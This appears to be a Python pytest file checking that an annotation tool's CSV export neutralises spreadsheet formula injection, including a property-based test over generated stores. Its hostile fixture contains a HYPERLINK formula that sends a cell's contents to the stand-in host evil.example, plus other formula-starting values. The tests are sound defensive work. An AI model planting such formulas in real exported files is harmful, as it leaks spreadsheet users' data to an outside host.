"""Issue 12: what an attacker, a careless colleague or bad luck must not get through.

Each test here failed on the code before its fix.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings

from exchange_support import stores
from tui.annotations.exchange.export import CSV_FIELDS, export_text
from tui.annotations.model import Annotation, Quote

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _annotation(**changes: object) -> Annotation:
    fields: dict[str, object] = {
        "id": "a1",
        "source": "reuters",
        "start": 0,
        "end": 4,
        "quote": Quote("NATO"),
        "label": "claim",
        "created": "2026-01-01T00:00:00Z",
        "modified": "2026-01-01T00:00:00Z",
    }
    fields.update(changes)
    return Annotation(**fields)  # type: ignore[arg-type]


# -- 6. CSV formula injection ---------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() -> None:
    hostile = _annotation(
        id="=HYPERLINK(\"http://evil.example/?\"&K2)",
        note="=1+1",
        label="+cmd",
        quote=Quote("-2+3", "@SUM(A1)", "\tx"),
        claim="\r=1",
    )
    sources = {"=src": {"path": "/a/=b.txt", "sha256": "x"}}
    rows = list(csv.reader(io.StringIO(export_text("csv", sources, [hostile]), newline="")))
    for cell in rows[1]:
        assert not cell.startswith(FORMULA_STARTS), cell
    row = dict(zip(CSV_FIELDS, rows[1], strict=True))
    assert row["note"] == "'=1+1" and row["label"] == "'+cmd"  # the text itself is kept


@settings(max_examples=60)
@given(stores())
def test_no_csv_text_cell_starts_a_formula(store: tuple) -> None:
    sources, annotations = store
    rows = list(csv.reader(io.StringIO(export_text("csv", sources, annotations), newline="")))
    for row in rows[1:]:
        for name, cell in zip(CSV_FIELDS, row, strict=True):
            if name not in ("start", "end", "group"):  # numbers stay numbers
                assert not cell.startswith(FORMULA_STARTS), (name, cell)
